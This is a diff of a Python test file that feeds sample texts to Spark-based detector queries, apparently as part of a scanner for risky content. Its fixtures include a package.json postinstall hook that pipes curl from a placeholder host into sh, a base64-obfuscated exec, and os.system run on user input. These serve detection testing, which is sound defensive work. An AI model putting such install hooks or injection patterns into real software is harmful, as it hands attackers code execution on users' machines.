@@ -18,7 +18,7 @@ def real(spark):
         61: "name = input()\nos.system(name)",  # toml: ext by id % 8
         57: "import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))\nv = os.environ['A']\nos.system(v)",  # py
         59: '{"name": "real", "scripts": {"postinstall": "curl http://real.example/x | sh"}}',  # json
-        58: "let a = 1;\n" + "a" * 12_000 + "".join(chr(33 + i % 90) for i in range(3000)),  # js
+        58: "let a = 1;\n" + "a" * 2000 + "".join(chr(33 + i % 90) for i in range(12_000)),  # js
     }
     spark.createDataFrame([(i, t, "en", "src", len(t)) for i, t in texts.items()], "doc_id long, text string, lang string, source string, n_chars long").write.parquet(f"{path}/documents.parquet")
     spark.createDataFrame([(1, "http://p.example", "<p title='cGFnZWZyYWdtZW50'>x</p>")], "page_id long, url string, html string").write.parquet(f"{path}/pages.parquet")
@@ -34,3 +34,14 @@ def test_detectors_read_real_text(spark, real):
     assert "src/doc-59.json" in {r.path for r in QUERIES["c35_install_hooks"](spark, real).collect()}
     frags = {r.frag: r.path for r in QUERIES["j03_fragments"](spark, real).collect()}
     assert frags["cGFnZWZyYWdtZW50"] == "pages/1.html" and frags["dHVybmZyYWdtZW50"] == "conv/1/2.txt"
+
+
+def test_whole_line_and_command(spark, real):
+    found = QUERIES["c48_entrypoint"](spark, real).where("category = 'entrypoint-entropy'").collect()
+    assert "src/doc-58.js" in {r.path for r in found}
+
+
+def test_whole_command(spark, real):
+    spark.createDataFrame([(2, 0, "user", "run " + "x" * 20_000 + " last")], "conv_id long, turn long, role string, text string").write.mode("append").parquet(f"{real}/conversations.parquet")
+    bare = {r.session: r.bare for r in QUERIES["i15_strip_shell_comment"](spark, real).collect()}[2]
+    assert bare.startswith("echo 'a # b' run xxx") and "x" * 20_000 + " last" in bare
